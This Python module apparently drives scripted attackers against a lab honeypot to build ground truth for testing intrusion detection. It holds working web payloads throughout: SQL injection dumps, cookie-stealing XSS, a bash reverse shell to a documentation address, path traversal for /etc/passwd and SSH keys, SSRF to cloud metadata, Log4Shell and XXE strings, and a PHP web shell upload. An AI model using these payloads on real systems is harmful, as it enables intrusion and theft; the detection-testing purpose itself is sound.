"""A hand-written attacker: what tools don't do, in four episodes of four people, each request with its line in the truth file.

The burglar attacks plainly, the evader hides the same attacks behind encodings, the intruder guesses a password and plants a
web shell, the prober tries what is rarer. Whether an attack succeeded is read from the honeypot's answer.

What is written here was made for this lab from how the attacks work. The addresses in it are documentation's and loopback's.
"""

import re
from dataclasses import dataclass

from attack.accesslog import AccessLog
from attack.browser import Browser
from attack.encoding import all_of_it, commented, loose, mixed_case, percent, plus, twice, unicode_escaped
from attack.target import Target
from attack.truth import Row

AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"

PASSWD = r"root:x:0:0:"
IDENTITY = r"uid=\d+\("

# The columns of the page's own query, which a UNION has to match. An attacker finds the number by trying.
COLUMNS = 5


@dataclass(frozen=True)
class Step:
    """One request, and what in the answer shows that it succeeded."""

    kind: str
    what: str
    target: str
    proof: str = ""
    method: str = "GET"
    body: str = ""
    content: str = "application/x-www-form-urlencoded"
    agent: str = ""
    referer: str = ""


def union(columns: str, table: str = "users") -> str:
    rest = ",".join(str(number) for number in range(3, COLUMNS + 1))
    return f"-1 union select 1,{columns},{rest} from {table}-- -"


def look_around() -> list[Step]:
    return [Step("benign", "looks around", "/"), Step("benign", "a product", "/product/?id=3"), Step("benign", "searches", "/search/?q=oak")]


def burglar() -> list[Step]:
    """Plain attacks, as one types them."""
    table = union("username||':'||password")
    listener = "bash -c 'bash -i >& /dev/tcp/203.0.113.70/4444 0>&1'"
    return look_around() + [
        Step("sql_injection", "a quote", "/product/?id=3%27"),
        Step("sql_injection", "always true", "/product/?id=3+or+1=1--"),
        Step("sql_injection", "table dumped", f"/product/?id={plus(table)}", r"admin:admin123"),
        Step("sql_injection", "table dumped from a text parameter",
             f"/category/?name={plus(chr(39) + ' ' + category_union())}", r"admin:admin123"),
        Step("xss", "reflected script", f"/search/?q={percent('<script>alert(document.cookie)</script>')}", r"<script>alert\("),
        Step("xss", "reflected image", f"/search/?q={loose('<img src=x onerror=alert(1)>')}", r"<img src=x onerror="),
        Step("xss", "body: stored script", "/review/", "", "POST",
             f"product=Oak+chair&author=kim&text={percent('<script>new Image().src=chr+document.cookie</script>')}"),
        Step("benign", "the page with the stored script", "/review/", r"<script>new Image"),
        Step("command_injection", "command run", "/ping/?host=127.0.0.1;id", IDENTITY),
        Step("command_injection", "file read by a command", f"/ping/?host={percent('127.0.0.1 | cat /etc/passwd')}", PASSWD),
        Step("command_injection", "command run", f"/ping/?host={percent('$(whoami)')}", r"PING shop"),
        Step("command_injection", "a reverse shell", f"/ping/?host={percent('127.0.0.1; ' + listener)}"),
        Step("path_traversal", "file read", "/download/?file=../../../../etc/passwd", PASSWD),
        Step("path_traversal", "file read", "/download/?file=/etc/passwd", PASSWD),
        Step("path_traversal", "key read", "/download/?file=../../../home/shop/.ssh/id_rsa", r"BEGIN LAB KEY"),
    ]


def category_union() -> str:
    return union("username||':'||password").replace("-1 ", "")


def evader() -> list[Step]:
    """The same behind encodings."""
    table = union("username||':'||password")
    script = "<script>alert(1)</script>"
    climb = "../../../../etc/passwd"
    return [
        Step("sql_injection", "table dumped, comments", f"/product/?id={percent(commented(table))}", r"admin:admin123"),
        Step("sql_injection", "table dumped, mixed case", f"/product/?id={plus(mixed_case(table))}", r"ADMIN:|admin:admin123"),
        Step("sql_injection", "table dumped, all encoded", f"/product/?id={all_of_it(table)}", r"admin:admin123"),
        Step("sql_injection", "table dumped, line breaks", f"/product/?id={plus(table).replace('+', '%0a').replace('--%0a', '--+')}", r"admin:admin123"),
        Step("sql_injection", "encoded twice", f"/product/?id={twice(table)}"),
        Step("sql_injection", "time", f"/product/?id={plus('1 and 1=like(char(65,66),upper(hex(randomblob(50000000))))')}"),
        Step("xss", "handler, slash", f"/search/?q={percent('<svg/onload=alert`1`>')}", r"<svg/onload"),
        Step("xss", "mixed case", f"/search/?q={percent('<ScRiPt>alert(1)</sCrIpT>')}", r"<ScRiPt>"),
        Step("xss", "encoded twice", f"/search/?q={twice(script)}"),
        Step("xss", "unicode escapes", f"/search/?q={unicode_escaped(script)}"),
        Step("xss", "entity in a link", f"/search/?q={percent('<a href=javas&#99;ript:alert(1)>x</a>')}", r"javas&#99;ript"),
        Step("xss", "details", f"/search/?q={all_of_it('<details open ontoggle=confirm(1)>')}", r"<details open"),
        Step("command_injection", "file read, no blanks", f"/ping/?host={percent('127.0.0.1;cat${IFS}/etc/passwd')}", PASSWD),
        Step("command_injection", "command run, line break", "/ping/?host=127.0.0.1%0aid", IDENTITY),
        Step("command_injection", "command run, quotes inside", f"/ping/?host={loose('127.0.0.1;w' + chr(39) + 'h' + chr(39) + 'oami')}",
             r"^shop$"),
        Step("command_injection", "command run, backticks", f"/ping/?host={percent('`id`')}", r"groups=\d+"),
        Step("command_injection", "command run, and", f"/ping/?host={plus('127.0.0.1 && id')}", IDENTITY),
        Step("command_injection", "all encoded", f"/ping/?host={all_of_it('127.0.0.1;uname -a')}", r"Linux lab"),
        Step("command_injection", "a pipe into a shell", f"/ping/?host={percent('x;echo aWQ=|base64 -d|sh')}"),
        Step("path_traversal", "file read, slashes encoded", f"/download/?file={percent(climb)}", PASSWD),
        Step("path_traversal", "file read, dots encoded", "/download/?file=%2e%2e/%2e%2e/%2e%2e/etc/passwd", PASSWD),
        Step("path_traversal", "encoded twice", f"/download/?file={twice(climb)}"),
        Step("path_traversal", "file read, encoded twice", f"/page/?name={twice(climb)}", PASSWD),
        Step("path_traversal", "dots doubled", "/download/?file=....//....//....//etc/passwd"),
        Step("path_traversal", "backslashes", "/download/?file=..%5c..%5c..%5cwindows%5cwin.ini"),
        Step("path_traversal", "overlong dots", "/download/?file=..%c0%af..%c0%afetc/passwd"),
        Step("file_inclusion", "source read by a filter", "/page/?name=php://filter/convert.base64-encode/resource=/var/www/html/config.php",
             r"PD9waHAg"),
        Step("file_inclusion", "data wrapper", "/page/?name=data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg=="),
        Step("file_inclusion", "remote script", f"/page/?name={percent('http://203.0.113.71/shell.txt')}"),
        Step("path_traversal", "environment read", f"/page/?name={percent('../../../proc/self/environ')}", r"PATH="),
        Step("ssti", "template evaluated", f"/greet/?name={percent('{{7*7}}')}", r"\b49\b"),
        Step("ssti", "template evaluated", f"/greet/?name={loose('{{config}}')}", r"SECRET_KEY|Config"),
        Step("ssti", "classes", f"/greet/?name={percent(chr(123) * 2 + chr(39) * 2 + '.__class__.__mro__[1].__subclasses__()' + chr(125) * 2)}",
             r"class"),
    ]


def prober() -> list[Step]:
    """What is rarer."""
    lookup = "${jndi:ldap://203.0.113.73:1389/a}"
    nested = "${${lower:j}ndi:${lower:l}${lower:d}ap://203.0.113.73/a}"
    entity = ('<?xml version="1.0"?><!DOCTYPE order [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
              "<order><product>&secret;</product></order>")
    canary = r"canary"
    return [
        Step("ssrf", "metadata read", "/fetch/?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", canary),
        Step("ssrf", "local service read", f"/fetch/?url={percent('http://127.0.0.1:8080/admin')}", canary),
        Step("ssrf", "decimal address", "/fetch/?url=http://2130706433/", canary),
        Step("ssrf", "hexadecimal address", "/fetch/?url=http://0x7f000001/", canary),
        Step("ssrf", "IPv6 loopback", f"/fetch/?url={percent('http://[::1]:80/')}", canary),
        Step("ssrf", "other scheme", f"/fetch/?url={percent('gopher://127.0.0.1:6379/_INFO')}", canary),
        Step("open_redirect", "sent to another site", "/go/?next=https://login.example.net/", r"Location: https://login\.example\.net"),
        Step("open_redirect", "two slashes", "/go/?next=//login.example.net/account", r"Location: //login"),
        Step("open_redirect", "encoded", f"/go/?next={percent('https://login.example.net/?u=1')}", r"Location: https://login"),
        Step("log4shell", "in the user agent", "/", agent=lookup),
        Step("log4shell", "nested, in the referer", "/", referer=nested),
        Step("log4shell", "in the query", f"/search/?q={percent(lookup)}"),
        Step("log4shell", "nested, in the query", f"/search/?q={percent(nested)}"),
        Step("xxe", "body: file read by an entity", "/xml/", PASSWD, "POST", entity, "application/xml"),
        Step("xxe", "entity in the query", f"/search/?q={percent(entity)}"),
        Step("nosql_injection", "everything listed by an operator", f"/api/products?filter={percent(MORE_THAN_NOTHING)}", r'"count": 40'),
        Step("nosql_injection", "everything listed by code", f"/api/products?filter={percent(ALWAYS)}", r'"count": 40'),
        Step("nosql_injection", "operator in a name", "/api/products?filter[$ne]=x"),
        Step("xss", "in the referer", "/", referer="http://203.0.113.73/<script>alert(1)</script>"),
        Step("sql_injection", "in the user agent", "/", agent="Mozilla/5.0' AND 1=(SELECT COUNT(*) FROM users)-- -"),
        Step("command_injection", "function in the user agent", "/", agent="() { :;}; /bin/cat /etc/passwd"),
        Step("code_injection", "PHP", f"/page/?name={percent('<?php system($_GET[1]); ?>')}"),
        Step("forced_browsing", "settings", "/.env"),
        Step("forced_browsing", "repository", "/.git/config"),
        Step("forced_browsing", "backup", "/backup.sql"),
    ]


def intruder() -> list[Step]:
    """Guesses a password. What follows needs the session, see `break_in`."""
    guesses = ["admin", "root", "letmein", "123456", "password", "qwerty", "shop", "lab", "summer", "winter", "dragon", "monkey",
               "welcome", "admin1", "admin12", "changeme", "secret", "master", "shop123", "root123"]
    tries = [Step("brute_force", "body: a guess", "/login/", "", "POST", f"username=admin&password={guess}") for guess in guesses]
    return [Step("benign", "the form", "/login/"), *tries,
            Step("brute_force", "body: login guessed", "/login/", r"Location: \S*/account/", "POST", "username=admin&password=admin123"),
            Step("benign", "in", "/account/"), Step("benign", "in", "/admin/")]


MORE_THAN_NOTHING = '{"price":{"$gt":0}}'
ALWAYS = '{"$where":"this.price==this.price"}'

SHELL = b"<?php if (isset($_GET['cmd'])) { system($_GET['cmd']); } ?>\n"


def after_upload(path: str) -> list[Step]:
    """Uses a web shell that lies at `path`."""
    return [
        Step("webshell", "web shell used", f"{path}?cmd=id", IDENTITY),
        Step("webshell", "web shell used", f"{path}?cmd={plus('cat /etc/passwd')}", PASSWD),
        Step("webshell", "web shell used", f"{path}?cmd={percent('ls -la /home; uname -a')}", r"Linux lab"),
    ]


class Hand:
    """Carries episodes out and keeps their truth."""

    def __init__(self, target: Target, log_path: str):
        self.target = target
        # A reader of its own: an episode may run beside a tool, whose requests another reader counts.
        self.log = AccessLog(log_path)
        self.rows: list[Row] = []

    def episode(self, name: str, actor: str) -> list[Row]:
        """Carries out one person's episode and gives its rows."""
        before = len(self.rows)
        browser = Browser(self.target, actor, AGENT)
        steps = {"burglar": burglar, "evader": evader, "prober": prober, "intruder": intruder}[name]()
        for step in steps:
            self._take(browser, name, step)
        if name == "intruder":
            self._break_in(browser, name)
        return self.rows[before:]

    def _take(self, browser: Browser, name: str, step: Step) -> None:
        after = self.log.refresh()
        answer = browser.send(step.method, step.target, step.body.encode(), step.content, step.agent, step.referer)
        seen = f"{answer.head}\n{answer.body}"
        worked = bool(step.proof) and re.search(step.proof, seen, re.MULTILINE) is not None
        self._note(browser.actor, name, step.kind, worked, step.what, answer.status, after)

    def _break_in(self, browser: Browser, name: str) -> None:
        after = self.log.refresh()
        answer = browser.upload("/upload/", "shell.php", SHELL)
        self._note(browser.actor, name, "webshell", answer.status < 400, "body: web shell planted", answer.status, after)
        link = re.search(r"/uploads/[\w.-]+", answer.body + answer.header("Location"))
        for step in after_upload(link.group(0) if link else "/uploads/shell.php"):
            self._take(browser, name, step)

    def _note(self, actor: str, name: str, kind: str, worked: bool, what: str, status: int, after: int) -> None:
        line = self.log.wait_for(actor, after)
        if line is None:
            raise RuntimeError(f"the honeypot logged nothing for {actor} ({what}, answer {status})")
        if kind == "benign":
            outcome = "-"
        else:
            outcome = "succeeded" if worked else "blocked" if status in (401, 403, 404) else "attempted"
        self.rows.append(Row(line, line, actor, f"hand-{name}", kind, outcome, what))
